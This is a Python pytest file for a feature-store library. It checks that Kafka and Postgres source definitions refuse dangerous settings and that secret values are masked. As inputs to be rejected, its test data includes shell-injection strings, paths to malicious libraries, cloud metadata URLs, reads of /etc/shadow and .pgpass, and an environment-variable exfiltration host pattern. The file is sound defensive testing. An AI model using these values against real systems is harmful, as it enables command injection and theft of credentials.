"""Definitions come from whoever may write the registry: they load nothing, run nothing, and read no secrets."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from asof import Field, KafkaSource, PostgresSource
from asof.config import load_config
from asof.definitions import FileSource, JsonFormat, LogSource, Snapshot, project_of
from asof.definitions.source_types import source_of
from asof.dtypes import Timestamp
from asof.errors import ConfigError, DefinitionError
from asof.opening.servers import SourceConnections
from asof.secrets import is_secret, masked


def kafka(settings: dict[str, Any] | None = None, **options: Any) -> KafkaSource:
    return KafkaSource(
        "clicks", timestamp_field="at", schema=[Field("at", Timestamp)],
        kafka_settings=settings, **{"bootstrap_servers": "a:1", **options},
    )  # fmt: skip


@pytest.mark.parametrize(
    ("settings", "reason"),
    [
        ({"plugin.library.paths": "/tmp/evil.so"}, "loads a library"),
        ({"ssl.engine.location": "/tmp/evil.so"}, "loads a library"),
        ({"ssl.engine.id": "dynamic"}, "loads a library"),
        ({"ssl.providers": "/tmp/evil"}, "loads a library"),
        ({"sasl.kerberos.kinit.cmd": "touch /tmp/owned"}, "a command"),
        ({"sasl.kerberos.principal": "x; touch /tmp/owned"}, "a command"),
        ({"sasl.kerberos.keytab": "$(touch /tmp/owned)"}, "a command"),
        ({"sasl.mechanism": "GSSAPI"}, "run a command"),
        ({"sasl.mechanisms": "oauthbearer"}, "run a command or fetch"),
        ({"sasl.mechanism": "${M:-GSSAPI}"}, "run a command"),
        ({"security.protocol": "sasl_ssl"}, "means Kerberos"),
        ({"sasl.oauthbearer.token.endpoint.url": "http://169.254.169.254/"}, "fetch URLs"),
        ({"sasl.oauthbearer.assertion.file": "/etc/shadow"}, "fetch URLs, or read files"),
        ({"sasl.oauthbearer.metadata.authentication.type": "azure_imds"}, "fetch URLs"),
        ({"https.ca.location": "/etc/shadow"}, "fetch URLs"),
        ({"offset.store.path": "/etc/cron.d"}, "writes files"),
        ({"internal.termination.signal": 9}, "not known to be harmless"),
        ({"test.mock.num.brokers": 3}, "not known to be harmless"),
        ({"default.topic.config": {"acks": 1}}, "not known to be harmless"),
        ({"error_cb": print}, "not known to be harmless"),
        ({"client.id": print}, "no text, number or flag"),
        ({"fetch.min.byte": 1}, "did you mean 'fetch.min.bytes'"),
    ],
)
def test_a_definition_with_a_setting_that_does_more_than_read_is_refused(settings: dict[str, Any], reason: str) -> None:
    with pytest.raises(DefinitionError, match=reason) as caught:
        kafka(settings)

    assert "connection of feature_store.yaml" in caught.value.hint


def test_settings_of_tls_passwords_and_sizes_are_taken() -> None:
    made = kafka({
        "security.protocol": "SASL_SSL", "sasl.mechanism": "SCRAM-SHA-512", "sasl.username": "asof",
        "sasl.password": "${PW}", "ssl.ca.location": "/ca.pem", "ssl.key.pem": "${KEY}", "fetch.min.bytes": 9,
    })  # fmt: skip

    assert source_of(made.content()) == made


@pytest.mark.parametrize(
    "url",
    [
        "host=db sslkey=pkcs11:object=x", "postgresql://db/shop?passfile=/root/.pgpass", "service=other",
        "postgresql://db/shop?%70assfile=/root/.pgpass", "host=db oauth_issuer=http://169.254.169.254",
        "host=db sslkeylogfile=/etc/cron.d/x", "host=db gsslib=x",
    ],
)  # fmt: skip
def test_a_url_of_postgres_that_does_more_than_connect_is_refused(url: str) -> None:
    with pytest.raises(DefinitionError, match="url has the parameter"):
        PostgresSource(table="orders", url=url)


def test_a_url_of_postgres_with_its_usual_parameters_is_taken() -> None:
    url = "postgresql://me@db:5432/shop?sslmode=verify-full&sslrootcert=/ca.pem&sslkey=/me.key&connect_timeout=3"

    assert PostgresSource(table="orders", url=url).connection == {"url": url}


def applied(source: Any) -> Any:
    """The source as a process has it that reads the registry."""
    snapshot = Snapshot(1, "shop", project_of([source]))
    return Snapshot.decode(snapshot.encode()).project.sources[source.name]


def connections(root: Path, text: str = "", **environ: str) -> SourceConnections:
    (root / "feature_store.yaml").write_text(f"project: shop\n{text}\n", encoding="utf-8")
    return SourceConnections(load_config(root, environ=environ), environ)


def test_a_definition_of_the_registry_reads_no_variable_that_is_not_listed(tmp_path: Path) -> None:
    known = connections(tmp_path, "environment: [KAFKA]", KAFKA="a:1", AWS_SECRET="hunter2")

    with pytest.raises(ConfigError) as caught:
        known.of(applied(kafka(bootstrap_servers="${KAFKA},${AWS_SECRET:-x}.evil.example:1")), "kafka")

    assert "AWS_SECRET" in caught.value.message
    assert "environment: [KAFKA, AWS_SECRET]" in caught.value.hint
    assert "hunter2" not in str(caught.value)


def test_a_listed_variable_and_one_that_the_configuration_uses_are_read(tmp_path: Path) -> None:
    text = "environment: KAFKA\nconnections: {shop: {type: postgres, url: '${SHOP_DB}'}}"
    known = connections(tmp_path, text, KAFKA="a:1", SHOP_DB="postgresql://db/shop")

    assert known.of(applied(kafka(bootstrap_servers="${KAFKA}")), "kafka").options == {"bootstrap_servers": "a:1"}
    found = known.of(applied(PostgresSource(table="orders", url="${SHOP_DB}")), "postgres")
    assert found.options == {"url": "postgresql://db/shop"}


def test_a_schema_registry_of_a_definition_is_held_to_it_too(tmp_path: Path) -> None:
    source = LogSource(
        "clicks",
        timestamp_field="at",
        schema=[Field("at", Timestamp)],
        message_format=JsonFormat(registry="http://${X}"),
    )

    with pytest.raises(ConfigError, match="environment variable X"):
        connections(tmp_path, X="evil").schema_registry(applied(source))
    assert connections(tmp_path, X="fine").schema_registry(source).options == {"url": "http://fine"}


@pytest.mark.parametrize("names", ["[A B]", "['${X}']", "{A: 1}"])
def test_a_list_that_names_no_variables_is_refused(tmp_path: Path, names: str) -> None:
    with pytest.raises(ConfigError, match="environment"):
        connections(tmp_path, f"environment: {names}", X="a-b")


SECRETS = {
    "pass": "hunter2", "pwd": "hunter2", "dbPwd": "hunter2", "db_pass": "hunter2", "privateKey": "hunter2",
    "private_key": "hunter2", "ssl.key.pem": "hunter2", "sasl.jaas.config": "hunter2", "sasl.oauthbearer.client.secret": "hunter2",
    "accessKeyId": "hunter2", "password": 1234567,
}  # fmt: skip


@pytest.mark.parametrize("name", SECRETS)
def test_the_value_of_a_secret_option_is_hidden(name: str) -> None:
    assert masked({"inner": [{name: SECRETS[name]}]}) == {"inner": [{name: "***"}]}


@pytest.mark.parametrize("name", ["compass", "bypass", "ssl.key.location", "keys", "token_count", "password_file"])
def test_an_option_that_only_sounds_like_one_is_shown(name: str) -> None:
    assert not is_secret(name)


PEM = "-----BEGIN {} KEY-----\nhunter2\nhunter2\n-----END {} KEY-----"
TEXTS = [
    "host=db user=me password=hunter2 hunter2,hunter2 dbname=x",
    "host=db password='hunter2 \\' hunter2, hunter2' user=me",
    "h:6379,ssl=true,password=hunter2,hunter2,abort=false",
    "postgresql://me:hunter2 hunter2@db/shop",
    "postgresql://me:hun@hunter2@db/shop",
    "Server=db;Pwd=hunter2;Database=x",
    "https://db/?pass=hunter2&x=1",
    PEM.format("PRIVATE", "PRIVATE"),
    PEM.format("RSA PRIVATE", "RSA PRIVATE"),
    '{"type": "service_account", "private_key": "' + PEM.format("PRIVATE", "PRIVATE").replace("\n", "\\n") + '"}',
    '{"password": "hunter2"}',
    'PlainLoginModule required username="me" password="hunter2;hunter2";',
]


@pytest.mark.parametrize("text", TEXTS)
def test_a_secret_in_a_text_is_hidden_whole(text: str) -> None:
    shown = masked({"option": text})["option"]

    assert "hunter2" not in shown
    assert "***" in shown


@pytest.mark.parametrize("text", TEXTS)
def test_a_secret_in_a_text_never_comes_into_the_registry(text: str) -> None:
    with pytest.raises(DefinitionError, match="contains a secret") as caught:
        PostgresSource(table="orders", url=text)
    assert "hunter2" not in str(caught.value)

    with pytest.raises(DefinitionError, match="contains a secret"):
        kafka({"client.id": text})


def test_a_secret_in_the_address_of_files_never_comes_into_the_registry() -> None:
    with pytest.raises(DefinitionError, match="contains a secret") as caught:
        FileSource("s3://AKIA:hunter2@bucket/rows.parquet", name="rows", timestamp_field="at")
    assert "hunter2" not in str(caught.value)


@pytest.mark.parametrize("name", ["sasl.password", "ssl.key.password", "ssl.key.pem", "ssl.keystore.password"])
def test_the_secret_settings_of_a_source_are_variables_only(name: str) -> None:
    with pytest.raises(DefinitionError, match="contains a secret"):
        kafka({name: "hunter2"})
    assert kafka({name: "${SECRET}"})


def test_plain_texts_are_shown_as_they_are() -> None:
    for text in ("http://host:80/path, mail me@example.com", "SELECT key = 'a' FROM t", "host=db user=me port=5432"):
        assert masked(text) == text
